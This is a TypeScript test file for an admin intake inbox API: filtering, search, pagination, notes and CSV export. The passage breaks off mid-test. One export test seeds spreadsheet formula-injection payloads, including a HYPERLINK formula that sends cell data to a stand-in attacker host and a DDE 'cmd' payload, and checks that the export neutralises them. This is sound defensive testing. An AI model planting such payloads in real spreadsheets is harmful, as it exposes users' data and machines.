import { describe, expect, test } from 'vitest';
import type {
  ChangeStatusInput,
  InboxItem,
  InboxPage,
  InboxQueryParams,
  IntakeDataExport,
} from '#shared/schemas/admin-intakes.ts';
import { INBOX_SORTS, type InboxSort } from '#shared/schemas/admin-intakes.ts';
import { writeInboxCsv } from '../../server/features/admin-intakes/admin-intakes.service.ts';
import { insertIntakeRows, type IntakeRowOverrides } from '../factories/intake-rows.ts';
import { contactWith, submitIntake } from '../factories/submitted-intake.ts';
import { signInAsVa, type SignedInTestVa } from '../setup/admin-session.ts';
import { storedV1Intake } from '../factories/stored-v1-intake.ts';
import { useTestApp } from '../setup/test-app.ts';
import { errorBodyOf } from '../setup/test-client.ts';

const t = useTestApp();

const BASE = '/api/admin/intakes';

const submitted = (contact: Parameters<typeof contactWith>[0] = {}) => submitIntake(t, contactWith(contact));

/** The answer's body, typed from the route when `response` comes from the typed client. */
async function json<T>(response: { status: number; clone(): Response; json(): Promise<T> }, status = 200): Promise<T> {
  expect(response.status, await response.clone().text()).toBe(status);
  return response.json();
}

async function errorBody(response: Response, status: number) {
  expect(response.status, await response.clone().text()).toBe(status);
  return errorBodyOf(response);
}

async function expect422(response: Response, path: string) {
  const body = await errorBody(response, 422);
  expect(body.error.code).toBe('validation_failed');
  expect(body.error.issues?.map((issue) => issue.path)).toContain(path);
}

async function expect404(response: Response) {
  const body = await errorBody(response, 404);
  expect(body.error.code).toBe('not_found');
}

async function inbox(va: SignedInTestVa, query: InboxQueryParams = {}) {
  return json(await va.client.api.admin.intakes.$get({ query }));
}

/** Every page of one query, following nextCursor. */
async function allPages(va: SignedInTestVa, params: InboxQueryParams) {
  const items: InboxItem[] = [];
  const pages: InboxPage[] = [];
  let cursor: string | null = null;
  do {
    const page: InboxPage = await inbox(va, cursor ? { ...params, cursor } : params);
    pages.push(page);
    items.push(...page.items);
    cursor = page.nextCursor;
    expect(pages.length).toBeLessThan(200);
  } while (cursor);
  return { items, pages };
}

const names = (page: { items: InboxItem[] }) => page.items.map((item) => item.name);
const day = (iso: string) => new Date(iso);

describe('access', () => {
  test('needs a signed-in VA, and the CSRF token to change anything', async () => {
    const { intakeId } = await submitted();
    expect((await t.app.request(BASE)).status).toBe(401);
    expect((await t.app.request(`${BASE}/export.csv`)).status).toBe(401);
    const va = await signInAsVa(t);
    const response = await va.request(`${BASE}/${intakeId}/status`, {
      method: 'PATCH',
      json: { status: 'contacted' },
      withoutCsrf: true,
    });
    expect(response.status).toBe(403);
    // Answers hold personal data: never cached.
    expect((await va.request(`${BASE}/${intakeId}`)).headers.get('cache-control')).toBe('no-store');
  });
});

describe('GET /api/admin/intakes (inbox)', () => {
  test('lists submitted intakes newest first, unread, with the inbox columns', async () => {
    const first = await submitted({ name: 'Anna Bakker', email: 'anna@example.nl', company: 'Bakkerij Anna' });
    const second = await submitted({ name: 'Zoë de Vries', email: 'zoe@example.nl' });
    const va = await signInAsVa(t);
    const page = await inbox(va);
    expect(page.nextCursor).toBeNull();
    expect(page.items.map((item) => item.id)).toEqual([second.intakeId, first.intakeId]);
    const stored = await t.db.prisma.intake.findUniqueOrThrow({ where: { id: first.intakeId } });
    expect(page.items[1]).toEqual({
      id: first.intakeId,
      status: 'new',
      createdAt: stored.createdAt.toISOString(),
      name: 'Anna Bakker',
      email: 'anna@example.nl',
      company: 'Bakkerij Anna',
      freedMinutesPerMonth: stored.freedMinutesPerMonth,
      netGainCentsPerMonth: stored.netGainCentsPerMonth,
      topBucket: stored.topBucket as InboxItem['topBucket'],
      unread: true,
    } satisfies InboxItem);
  });

  test('an empty inbox is an empty page without a cursor', async () => {
    const va = await signInAsVa(t);
    expect(await inbox(va)).toEqual({ items: [], nextCursor: null });
  });

  test('filters by one or more statuses (repeated or comma-separated)', async () => {
    await insertIntakeRows(t.db, [
      { name: 'Nieuw', status: 'new' },
      { name: 'Gebeld', status: 'contacted' },
      { name: 'Klant', status: 'client' },
      { name: 'Archief', status: 'archived' },
    ]);
    const va = await signInAsVa(t);
    expect(names(await inbox(va, { status: 'client' }))).toEqual(['Klant']);
    expect(names(await inbox(va, { status: ['new', 'contacted'], sort: 'name' }))).toEqual(['Gebeld', 'Nieuw']);
    expect(names(await inbox(va, { status: 'archived,client', sort: 'name' }))).toEqual(['Archief', 'Klant']);
    await expect422(await va.request(`${BASE}?status=done`), 'status.0');
    await expect422(await va.request(`${BASE}?status=`), 'status');
  });

  test('filters by calendar days in Dutch time, both ends inclusive', async () => {
    await insertIntakeRows(t.db, [
      { name: 'a: 29 Nov 23:59 NL', createdAt: day('2026-11-29T22:59:59.999Z') },
      { name: 'b: 30 Nov 00:00 NL', createdAt: day('2026-11-29T23:00:00.000Z') },
      { name: 'c: 30 Nov 23:59 NL', createdAt: day('2026-11-30T22:59:59.999Z') },
      { name: 'd: 1 Dec 00:30 NL', createdAt: day('2026-11-30T23:30:00.000Z') },
      { name: 'e: 1 Jul 00:30 NL (summer)', createdAt: day('2026-06-30T22:30:00.000Z') },
      { name: 'f: 30 Jun 23:30 NL (summer)', createdAt: day('2026-06-30T21:30:00.000Z') },
    ]);
    const va = await signInAsVa(t);
    const sorted = (params: InboxQueryParams) => inbox(va, { ...params, sort: 'oldest' }).then(names);
    expect(await sorted({ from: '2026-11-30', to: '2026-11-30' })).toEqual(['b: 30 Nov 00:00 NL', 'c: 30 Nov 23:59 NL']);
    expect(await sorted({ from: '2026-12-01' })).toEqual(['d: 1 Dec 00:30 NL']);
    expect(await sorted({ to: '2026-11-29' })).toEqual([
      'f: 30 Jun 23:30 NL (summer)',
      'e: 1 Jul 00:30 NL (summer)',
      'a: 29 Nov 23:59 NL',
    ]);
    expect(await sorted({ from: '2026-07-01', to: '2026-07-01' })).toEqual(['e: 1 Jul 00:30 NL (summer)']);
    await expect422(await va.request(`${BASE}?from=2026-12-01&to=2026-11-30`), 'to');
    await expect422(await va.request(`${BASE}?from=2026-02-30`), 'from');
    await expect422(await va.request(`${BASE}?to=30-11-2026`), 'to');
  });

  test('combines status, dates and search', async () => {
    await insertIntakeRows(t.db, [
      { name: 'Zoë Oud', status: 'contacted', createdAt: day('2026-01-10T12:00:00Z') },
      { name: 'Zoë Nieuw', status: 'contacted', createdAt: day('2026-03-10T12:00:00Z') },
      { name: 'Zoë Klant', status: 'client', createdAt: day('2026-03-11T12:00:00Z') },
      { name: 'Piet Nieuw', status: 'contacted', createdAt: day('2026-03-12T12:00:00Z') },
    ]);
    const va = await signInAsVa(t);
    const page = await inbox(va, { status: 'contacted', from: '2026-03-01', to: '2026-03-31', q: 'zoe' });
    expect(names(page)).toEqual(['Zoë Nieuw']);
  });

  test.each(INBOX_SORTS)('every combination of filters gives the same rows in the same order (sort=%s)', async (sort) => {
    // The repository writes the status and date filters differently per sort order (so that SQLite
    // picks the right index); what they select must not change. 24 rows at noon on 24 days, four
    // statuses, ties on the amounts, every third one a Zoë.
    const statuses = ['new', 'contacted', 'client', 'archived'];
    await insertIntakeRows(
      t.db,
      Array.from({ length: 24 }, (_, i) => ({
        name: `${i % 3 === 0 ? 'Zoë' : 'Piet'} ${String.fromCharCode(65 + ((i * 7) % 24))}`,
        status: statuses[i % 4],
        createdAt: day(`2026-03-${String(i + 1).padStart(2, '0')}T12:00:00Z`),
        freedMinutesPerMonth: 60 * (i % 5),
        netGainCentsPerMonth: 1000 * ((i % 7) - 3),
      })),
    );
    const va = await signInAsVa(t);
    const whole = (await allPages(va, { sort, limit: '100' })).items;
    const combinations: Record<string, string>[] = [
      { status: 'client' },
      { status: 'new,client' },
      { from: '2026-03-05', to: '2026-03-16' },
      { from: '2026-03-20' },
      { to: '2026-03-03' },
      { status: 'new,contacted', from: '2026-03-02', to: '2026-03-21' },
      { status: 'archived', from: '2026-03-10' },
      { q: 'zoe' },
      { q: 'zoe', status: 'new,client,archived', from: '2026-03-04', to: '2026-03-22' },
      { q: 'zoe', status: 'contacted' },
    ];
    for (const filter of combinations) {
      const dayOf = (item: InboxItem) => item.createdAt.slice(0, 10);
      const expected = whole.filter(
        (item) =>
          (!filter.status || filter.status.split(',').includes(item.status)) &&
          (!filter.from || dayOf(item) >= filter.from) &&
          (!filter.to || dayOf(item) <= filter.to) &&
          (!filter.q || item.name.startsWith('Zoë')),
      );
      expect(expected.length, JSON.stringify(filter)).toBeGreaterThan(0);
      const paged = await allPages(va, { ...filter, sort, limit: '3' });
      expect(paged.items.map((item) => item.id), JSON.stringify(filter)).toEqual(expected.map((item) => item.id));
    }
  });

  describe('search', () => {
    test('ignores case and accents in the name', async () => {
      await insertIntakeRows(t.db, [
        { name: 'Zoë de Vries' },
        { name: 'ZOË JANSEN' },
        { name: 'Zoe Bakker' },
        { name: 'Piet Zoetemelk' },
        { name: 'Anna Smit' },
      ]);
      const va = await signInAsVa(t);
      const found = async (q: string) => names(await inbox(va, { q })).sort();
      const zoes = ['Piet Zoetemelk', 'ZOË JANSEN', 'Zoe Bakker', 'Zoë de Vries'].sort();
      expect(await found('zoe')).toEqual(zoes);
      expect(await found('ZOË')).toEqual(zoes);
      expect(await found('  Zoë  ')).toEqual(zoes);
      expect(await found('zoë jansen')).toEqual(['ZOË JANSEN']);
      expect(await found('jansen zoe')).toEqual(['ZOË JANSEN']);
      expect(await found('de vries')).toEqual(['Zoë de Vries']);
      expect(await found('xyz')).toEqual([]);
    });

    test('finds e-mail addresses and companies', async () => {
      await insertIntakeRows(t.db, [
        { name: 'Anna', email: 'anna.smit@voorbeeld.org', company: 'Smit Advies' },
        { name: 'Bram', email: 'bram@example.nl', company: 'Bakkerij Ëlmo' },
        { name: 'Cas', email: 'info@cas.nl', company: null },
      ]);
      const va = await signInAsVa(t);
      const found = async (q: string) => names(await inbox(va, { q })).sort();
      expect(await found('voorbeeld.org')).toEqual(['Anna']);
      expect(await found('ANNA.SMIT@')).toEqual(['Anna']);
      expect(await found('bakkerij elmo')).toEqual(['Bram']);
      expect(await found('advies')).toEqual(['Anna']);
      expect(await found('@cas.nl')).toEqual(['Cas']);
    });

    test('a LIKE wildcard matches itself, never everything', async () => {
      await insertIntakeRows(t.db, [
        { name: 'Anna', email: 'anna_smit@example.nl' },
        { name: 'Bram', email: 'bram@example.nl' },
        { name: 'Axb Test', email: 'axb@example.nl' },
      ]);
      const va = await signInAsVa(t);
      const found = async (q: string) => names(await inbox(va, { q })).sort();
      expect(await found('%')).toEqual([]);
      expect(await found('_')).toEqual([]);
      expect(await found('%%_\\')).toEqual([]);
      expect(await found('a_b')).toEqual([]);
      expect(await found('a%b')).toEqual([]);
      expect(await found('anna_smit')).toEqual(['Anna']);
      // An empty search is no search.
      expect(await found('   ')).toEqual(['Anna', 'Axb Test', 'Bram']);
      await expect422(await va.request(`${BASE}?q=${'a'.repeat(201)}`), 'q');
    });
  });

  describe('sorting', () => {
    const rows: IntakeRowOverrides[] = [
      { name: 'Bram', createdAt: day('2026-03-02T10:00:00Z'), freedMinutesPerMonth: 600, netGainCentsPerMonth: -1250 },
      { name: 'Anna', createdAt: day('2026-03-03T10:00:00Z'), freedMinutesPerMonth: 90, netGainCentsPerMonth: 50_000 },
      { name: 'Cas', createdAt: day('2026-03-01T10:00:00Z'), freedMinutesPerMonth: 1200, netGainCentsPerMonth: 0 },
      { name: 'Dirk', createdAt: day('2026-03-04T10:00:00Z'), freedMinutesPerMonth: 300, netGainCentsPerMonth: 12_345 },
    ];
    const expected: Record<InboxSort, string[]> = {
      newest: ['Dirk', 'Anna', 'Bram', 'Cas'],
      oldest: ['Cas', 'Bram', 'Anna', 'Dirk'],
      name: ['Anna', 'Bram', 'Cas', 'Dirk'],
      'hours-freed': ['Cas', 'Bram', 'Dirk', 'Anna'],
      'net-gain': ['Anna', 'Dirk', 'Cas', 'Bram'],
    };

    test.each(INBOX_SORTS)('sort=%s', async (sort) => {
      await insertIntakeRows(t.db, rows);
      const va = await signInAsVa(t);
      expect(names(await inbox(va, { sort }))).toEqual(expected[sort]);
      // And the same order when paged one by one.
      expect((await allPages(va, { sort, limit: '1' })).items.map((item) => item.name)).toEqual(expected[sort]);
    });

    test('an unknown sort is a 422', async () => {
      const va = await signInAsVa(t);
      await expect422(await va.request(`${BASE}?sort=email`), 'sort');
    });
  });

  describe('cursor pagination', () => {
    test('exactly `limit` rows is one page without a cursor; one more makes a second page', async () => {
      await insertIntakeRows(t.db, [{ name: 'A' }, { name: 'B' }, { name: 'C' }]);
      const va = await signInAsVa(t);
      expect(await inbox(va, { limit: '3', sort: 'name' })).toMatchObject({ nextCursor: null });
      const first = await inbox(va, { limit: '2', sort: 'name' });
      expect(names(first)).toEqual(['A', 'B']);
      expect(first.nextCursor).toEqual(expect.any(String));
      const last = await inbox(va, { limit: '2', sort: 'name', cursor: first.nextCursor! });
      expect(names(last)).toEqual(['C']);
      expect(last.nextCursor).toBeNull();
    });

    test('a cursor after the last row gives an empty page', async () => {
      const [id] = await insertIntakeRows(t.db, [{ name: 'A' }, { name: 'B' }]);
      const va = await signInAsVa(t);
      const first = await inbox(va, { limit: '1', sort: 'name' });
      expect(first.items[0]!.id).toBe(id);
      await t.db.prisma.intake.deleteMany({ where: { name: 'B' } });
      expect(await inbox(va, { limit: '1', sort: 'name', cursor: first.nextCursor! })).toEqual({ items: [], nextCursor: null });
    });

    test.each(INBOX_SORTS)('ties on the sort value never skip or repeat a row (sort=%s)', async (sort) => {
      // 23 rows in three groups that share createdAt, name, hours and net gain.
      const rows: IntakeRowOverrides[] = Array.from({ length: 23 }, (_, i) => {
        const group = i % 3;
        return {
          name: `Naam ${group}`,
          createdAt: day(`2026-05-0${group + 1}T08:00:00Z`),
          freedMinutesPerMonth: 100 * group,
          netGainCentsPerMonth: -500 + 1000 * group,
        };
      });
      const ids = await insertIntakeRows(t.db, rows);
      const va = await signInAsVa(t);
      const whole = await inbox(va, { sort, limit: '100' });
      for (const limit of ['1', '2', '4', '7', '23']) {
        const { items, pages } = await allPages(va, { sort, limit });
        expect(items.map((item) => item.id)).toEqual(whole.items.map((item) => item.id));
        expect(pages.at(-1)!.nextCursor).toBeNull();
      }
      expect(new Set(whole.items.map((item) => item.id))).toEqual(new Set(ids));
    });

    test('keeps its place when rows are added before it', async () => {
      await insertIntakeRows(t.db, [
        { name: 'Oud 1', createdAt: day('2026-01-01T00:00:00Z') },
        { name: 'Oud 2', createdAt: day('2026-01-02T00:00:00Z') },
        { name: 'Oud 3', createdAt: day('2026-01-03T00:00:00Z') },
      ]);
      const va = await signInAsVa(t);
      const first = await inbox(va, { limit: '2' });
      expect(names(first)).toEqual(['Oud 3', 'Oud 2']);
      await insertIntakeRows(t.db, [{ name: 'Nieuw', createdAt: day('2026-02-01T00:00:00Z') }]);
      expect(names(await inbox(va, { limit: '2', cursor: first.nextCursor! }))).toEqual(['Oud 1']);
    });

    test('a damaged cursor, or one of another sort order, is a 422 on cursor', async () => {
      await insertIntakeRows(t.db, [{ name: 'A' }, { name: 'B' }]);
      const va = await signInAsVa(t);
      const { nextCursor } = await inbox(va, { limit: '1' });
      const payload = JSON.parse(Buffer.from(nextCursor!, 'base64url').toString()) as Record<string, unknown>;
      const forged = (changes: Record<string, unknown>) =>
        Buffer.from(JSON.stringify({ ...payload, ...changes })).toString('base64url');
      const bad = [
        'not a cursor!',
        `${nextCursor!.slice(0, -3)}`,
        Buffer.from('{"s":"newest"').toString('base64url'),
        forged({ v: 42 }),
        forged({ v: 'yesterday' }),
        forged({ i: '' }),
        forged({ x: 1 }),
        forged({ s: 'name' }),
      ];
      for (const cursor of bad) {
        await expect422(await va.request(`${BASE}?cursor=${encodeURIComponent(cursor)}`), 'cursor');
      }
      await expect422(await va.request(`${BASE}?sort=name&cursor=${nextCursor!}`), 'cursor');
    });

    test('limit is 1–100, default 25; unknown parameters are refused', async () => {
      await insertIntakeRows(t.db, Array.from({ length: 30 }, () => ({})));
      const va = await signInAsVa(t);
      expect((await inbox(va)).items).toHaveLength(25);
      expect((await inbox(va, { limit: '100' })).items).toHaveLength(30);
      for (const limit of ['0', '101', 'ten', '-1', '2.5']) {
        await expect422(await va.request(`${BASE}?limit=${limit}`), 'limit');
      }
      await expect422(await va.request(`${BASE}?page=2`), 'page');
    });
  });
});

describe('GET /api/admin/intakes/:id (detail)', () => {
  test('shows the answers as submitted and the result exactly as the prospect sees it', async () => {
    const { intakeId, resultToken, input } = await submitted({ phone: '06 1234 5678' });
    const va = await signInAsVa(t);
    const prospectView = await json(await t.client.api.results[':token'].$get({ param: { token: resultToken } }));
    const detail = await json(await va.client.api.admin.intakes[':id'].$get({ param: { id: intakeId } }));
    const stored = await t.db.prisma.intake.findUniqueOrThrow({ where: { id: intakeId }, include: { snapshot: true } });

    expect(detail.answers).toEqual(input);
    expect(detail.answers).toEqual(stored.snapshot?.answers);
    expect(detail.resultView.result).toEqual(stored.snapshot?.result);
    expect(detail.resultView).toEqual(prospectView);

    expect(detail).toMatchObject({
      id: intakeId,
      status: 'new',
      locale: 'nl',
      createdAt: stored.createdAt.toISOString(),
      contact: { name: 'Zoë de Vries', email: 'zoe@example.nl', company: 'Zoë Coaching', phone: '06 1234 5678' },
      consent: {
        privacyConsentAt: stored.privacyConsentAt.toISOString(),
        privacyConsentVersion: stored.privacyConsentVersion,
        followUpConsent: true,
        followUpConsentAt: stored.followUpConsentAt!.toISOString(),
      },
      notes: [],
    });
    // The prospect's opening above is in the timeline and in the open count.
    expect(detail.timeline.map((event) => event.type)).toEqual(['submitted', 'email-queued', 'email-queued', 'result-opened']);
    expect(detail.resultOpens.count).toBe(1);
    expect(detail.resultOpens.lastOpenedAt).toEqual(expect.any(String));
  });

  test('an intake from before engine 2.0.0 still loads: old answers read as they meant, the result as stored', async () => {
    const { intakeId } = await submitted();
    const v1 = storedV1Intake();
    await t.db.prisma.intakeSnapshot.update({ where: { intakeId }, data: { answers: v1.answers, result: v1.result } });
    await t.db.prisma.intake.update({ where: { id: intakeId }, data: { vatStatus: null, engineVersion: '1.0.0' } });
    const va = await signInAsVa(t);
    const response = await va.client.api.admin.intakes[':id'].$get({ param: { id: intakeId } });
    expect(response.status).toBe(200);
    const detail = await json(response);
    // "Needs me" was a yes/no boolean, and BTW was not asked.
    expect(detail.answers.tasks.catalogueTasks.map((task) => task.needsMe)).toEqual(['no', 'no', 'no', 'yes', 'yes']);
    expect(detail.answers.about.vatStatus).toBeNull();
    expect(detail.resultView.result).toEqual(v1.result);
    // The data export (AVG) reads it too.
    expect((await va.request(`${BASE}/${intakeId}/export.json`)).status).toBe(200);
  });

  test('reading it changes nothing: it stays unread until the VA marks it read by POST', async () => {
    const { intakeId } = await submitted();
    const va = await signInAsVa(t);
    // A GET is safe: a prefetch, a link checker or a retry must not mark it read.
    const opened = await json(await va.client.api.admin.intakes[':id'].$get({ param: { id: intakeId } }));
    expect(opened.readAt).toBeNull();
    expect((await inbox(va)).items[0]!.unread).toBe(true);
    const read = await json(await va.client.api.admin.intakes[':id'].read.$post({ param: { id: intakeId } }));
    const again = await json(await va.client.api.admin.intakes[':id'].$get({ param: { id: intakeId } }));
    expect(again.readAt).toBe(read.readAt);
    expect((await inbox(va)).items[0]!.unread).toBe(false);
  });

  test('an unknown id is a 404', async () => {
    const va = await signInAsVa(t);
    await expect404(await va.request(`${BASE}/doesnotexist`));
  });
});

describe('read / unread', () => {
  test('marks an intake unread again, and read', async () => {
    const { intakeId } = await submitted();
    const va = await signInAsVa(t);
    await va.request(`${BASE}/${intakeId}/read`, { method: 'POST' });

    const unread = await json(await va.client.api.admin.intakes[':id'].unread.$post({ param: { id: intakeId } }));
    expect(unread).toEqual({ id: intakeId, readAt: null, unread: true });
    expect((await inbox(va)).items[0]!.unread).toBe(true);

    const read = await json(await va.client.api.admin.intakes[':id'].read.$post({ param: { id: intakeId } }));
    expect(read.unread).toBe(false);
    expect(read.readAt).toEqual(expect.any(String));
    const readAgain = await json(await va.client.api.admin.intakes[':id'].read.$post({ param: { id: intakeId } }));
    expect(readAgain.readAt).toBe(read.readAt);
    expect((await inbox(va)).items[0]!.unread).toBe(false);

    await expect404(await va.request(`${BASE}/nope/read`, { method: 'POST' }));
    await expect404(await va.request(`${BASE}/nope/unread`, { method: 'POST' }));
  });
});

describe('PATCH /api/admin/intakes/:id/status', () => {
  test('moves the intake through the pipeline and records each change in the timeline', async () => {
    const { intakeId } = await submitted();
    const va = await signInAsVa(t);
    const change = (status: ChangeStatusInput['status']) =>
      va.client.api.admin.intakes[':id'].status.$patch({ param: { id: intakeId }, json: { status } });

    expect(await json(await change('contacted'))).toEqual({ id: intakeId, status: 'contacted', changed: true });
    expect(await json(await change('call-planned'))).toMatchObject({ changed: true });
    // The same status again changes nothing and adds no event.
    expect(await json(await change('call-planned'))).toEqual({ id: intakeId, status: 'call-planned', changed: false });

    const detail = await json(await va.client.api.admin.intakes[':id'].$get({ param: { id: intakeId } }));
    expect(detail.status).toBe('call-planned');
    const changes = detail.timeline.filter((event) => event.type === 'status-changed');
    const by = { userId: va.va.userId, name: 'Sanne Jansen' };
    expect(changes.map((event) => event.data)).toEqual([
      { from: 'new', to: 'contacted', by },
      { from: 'contacted', to: 'call-planned', by },
    ]);
    expect(detail.timeline[0]!.type).toBe('submitted');
    expect(names(await inbox(va, { status: 'call-planned' }))).toEqual(['Zoë de Vries']);
  });

  test('refuses an unknown status (422) and an unknown intake (404)', async () => {
    const { intakeId } = await submitted();
    const va = await signInAsVa(t);
    await expect422(await va.request(`${BASE}/${intakeId}/status`, { method: 'PATCH', json: { status: 'won' } }), 'status');
    await expect422(await va.request(`${BASE}/${intakeId}/status`, { method: 'PATCH', json: {} }), 'status');
    await expect422(
      await va.request(`${BASE}/${intakeId}/status`, { method: 'PATCH', json: { status: 'client', note: 'x' } }),
      'note',
    );
    await expect404(await va.request(`${BASE}/nope/status`, { method: 'PATCH', json: { status: 'client' } }));
    expect(await t.db.prisma.intakeEvent.count({ where: { type: 'status-changed' } })).toBe(0);
  });
});

describe('notes', () => {
  test('add, edit and delete, with author and times; they show in the detail and timeline', async () => {
    const { intakeId } = await submitted();
    const va = await signInAsVa(t);
    const before = Date.now();
    const note = await json(
      await va.client.api.admin.intakes[':id'].notes.$post({ param: { id: intakeId }, json: { body: '  Belde terug, wil in januari starten.  ' } }),
      201,
    );
    expect(note).toMatchObject({ body: 'Belde terug, wil in januari starten.', author: { id: va.va.userId, name: 'Sanne Jansen' } });
    expect(Date.parse(note.createdAt)).toBeGreaterThanOrEqual(before - 1000);

    const edited = await json(
      await va.client.api.admin.intakes[':id'].notes[':noteId'].$patch({ param: { id: intakeId, noteId: note.id }, json: { body: 'Start in februari.' } }),
    );
    expect(edited).toMatchObject({ id: note.id, body: 'Start in februari.', createdAt: note.createdAt, author: note.author });
    expect(Date.parse(edited.updatedAt)).toBeGreaterThanOrEqual(Date.parse(note.createdAt));

    const second = await json(await va.client.api.admin.intakes[':id'].notes.$post({ param: { id: intakeId }, json: { body: 'Tweede' } }), 201);
    let detail = await json(await va.client.api.admin.intakes[':id'].$get({ param: { id: intakeId } }));
    expect(detail.notes.map((n) => n.body)).toEqual(['Start in februari.', 'Tweede']);
    expect(detail.timeline.filter((e) => e.type === 'note-added').map((e) => e.data)).toEqual([
      { noteId: note.id, author: 'Sanne Jansen' },
      { noteId: second.id, author: 'Sanne Jansen' },
    ]);

    const deleted = await va.request(`${BASE}/${intakeId}/notes/${note.id}`, { method: 'DELETE' });
    expect(await json(deleted)).toEqual({ deleted: true });
    detail = await json(await va.client.api.admin.intakes[':id'].$get({ param: { id: intakeId } }));
    expect(detail.notes.map((n) => n.id)).toEqual([second.id]);
    expect(JSON.stringify(detail.timeline)).not.toContain(note.id);
    await expect404(await va.request(`${BASE}/${intakeId}/notes/${note.id}`, { method: 'DELETE' }));
  });

  test('a note keeps its text when its author account is removed', async () => {
    const { intakeId } = await submitted();
    const va = await signInAsVa(t);
    await va.request(`${BASE}/${intakeId}/notes`, { method: 'POST', json: { body: 'Notitie' } });
    const other = await signInAsVa(t, { email: 'collega@example.nl', name: 'Collega' });
    await t.db.prisma.vaUser.delete({ where: { id: va.va.userId } });
    const detail = await json(await other.client.api.admin.intakes[':id'].$get({ param: { id: intakeId } }));
    expect(detail.notes).toMatchObject([{ body: 'Notitie', author: null }]);
  });

  test('validates the body (1–5000 characters) and finds only notes of this intake', async () => {
    const { intakeId } = await submitted();
    const otherIntake = await submitted({ email: 'ander@example.nl' });
    const va = await signInAsVa(t);
    // Raw: most of these bodies are not a note.
    const post = (body: unknown) => va.request(`${BASE}/${intakeId}/notes`, { method: 'POST', json: body });
    await expect422(await post({ body: '' }), 'body');
    await expect422(await post({ body: '   ' }), 'body');
    await expect422(await post({ body: 'x'.repeat(5001) }), 'body');
    await expect422(await post({}), 'body');
    await expect422(await post({ body: 'ok', pinned: true }), 'pinned');
    expect((await post({ body: 'x'.repeat(5000) })).status).toBe(201);
    await expect404(await va.request(`${BASE}/nope/notes`, { method: 'POST', json: { body: 'Hallo' } }));

    const note = await json(await va.client.api.admin.intakes[':id'].notes.$post({ param: { id: intakeId }, json: { body: 'Van deze intake' } }), 201);
    const path = `${BASE}/${otherIntake.intakeId}/notes/${note.id}`;
    await expect404(await va.request(path, { method: 'PATCH', json: { body: 'Gekaapt' } }));
    await expect404(await va.request(path, { method: 'DELETE' }));
    await expect422(await va.request(`${BASE}/${intakeId}/notes/${note.id}`, { method: 'PATCH', json: { body: '' } }), 'body');
    expect((await t.db.prisma.intakeNote.findUniqueOrThrow({ where: { id: note.id } })).body).toBe('Van deze intake');
  });
});

/** A small CSV reader for `;`-separated, `"`-quoted, CRLF-terminated text. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ';') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += char;
  }
  expect(cell === '' && row.length === 0, 'the CSV ends with CRLF').toBe(true);
  return rows;
}

async function csvOf(va: SignedInTestVa, query = '') {
  await va.reauthenticate();
  const response = await va.request(`${BASE}/export.csv${query ? `?${query}` : ''}`);
  expect(response.status).toBe(200);
  const bytes = new Uint8Array(await response.arrayBuffer());
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
  return { response, bytes, text, rows: parseCsv(text.replace(/^\uFEFF/, '')) };
}

describe('GET /api/admin/intakes/export.csv', () => {
  test('opens in Excel with Dutch settings: BOM, semicolons, CRLF, decimal commas, a dated attachment', async () => {
    const [id] = await insertIntakeRows(t.db, [
      {
        name: 'Zoë de Vries',
        email: 'zoe@example.nl',
        company: 'Zoë; Coaching "Plus"',
        phone: '06 1234 5678',
        status: 'proposal-sent',
        createdAt: day('2026-07-01T12:05:00Z'),
        freedMinutesPerMonth: 90,
        netGainCentsPerMonth: 123_456,
        topBucket: 'after-onboarding',
      },
    ]);
    const va = await signInAsVa(t);
    const { response, bytes, text, rows } = await csvOf(va);

    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="intakes-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(response.headers.get('cache-control')).toBe('no-store');
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text).toContain('\r\n');
    expect(text.replace(/\r\n/g, '')).not.toMatch(/\n/);

    expect(rows[0]).toEqual([
      'datum', 'naam', 'e-mail', 'bedrijf', 'telefoon', 'status', 'uren vrij per maand', 'netto per maand (€)',
      'top-bucket', 'gelezen', 'taal', 'soort bedrijf', 'uren per week', 'uurtarief (€)', 'btw', 'follow-up toegestaan', 'id',
    ]);
    expect(rows[1]).toEqual([
      '2026-07-01 14:05', // Dutch summer time
      'Zoë de Vries',
      'zoe@example.nl',
      'Zoë; Coaching "Plus"',
      '06 1234 5678',
      'voorstel verstuurd',
      '1,50',
      '1234,56',
      'na het inwerken',
      'nee',
      'nl',
      'coach-trainer',
      '40',
      '85,00',
      'btw',
      'ja',
      id,
    ]);
    expect(rows).toHaveLength(2);
  });

  test('neutralises cells that Excel would run as a formula; negative amounts stay numbers', async () => {
    await insertIntakeRows(t.db, [
      {
        name: '=HYPERLINK("https://evil.example/?x="&A1;"Klik")',
        email: '@SUM(1+1)@example.nl',
        company: '+cmd|\' /C calc\'!A0',
        phone: '-2+3',
        netGainCentsPerMonth: -1250,
        freedMinutesPerMonth: 0,
        createdAt: day('2026-01-02T00:00:00Z'),
      },
      {
        name: '\tTab',
        company: '\r=1+1',
        email: 'gewoon@example.nl',
        netGainCentsPerMonth: -5,
        createdAt: day('2026-01-01T00:00:00Z'),
      },
    ]);
    const va = await signInAsVa(t);
    const { rows } = await csvOf(va, 'sort=oldest');
    const [header, ...data] = rows;
    const column = (name: string) => header!.indexOf(name);
    const cells = data.map((row) => [row[column('naam')], row[column('e-mail')], row[column('bedrijf')], row[column('telefoon')]]);
    expect(cells).toEqual([
      ["'\tTab", 'gewoon@example.nl', "'\r=1+1", ''],
      ['\'=HYPERLINK("https://evil.example/?x="&A1;"Klik")', '\'@SUM(1+1)@example.nl', '\'+cmd|\' /C calc\'!A0', "'-2+3"],
    ]);
    expect(data.map((row) => row[column('netto per maand (€)')])).toEqual(['-0,05', '-12,50']);
    expect(data[1]![column('uren vrij per maand')]).toBe('0,00');
  });

  test('applies the inbox filters and sort', async () => {
    await insertIntakeRows(t.db, [
      { name: 'Klant Zoë', status: 'client', createdAt: day('2026-03-10T12:00:00Z') },
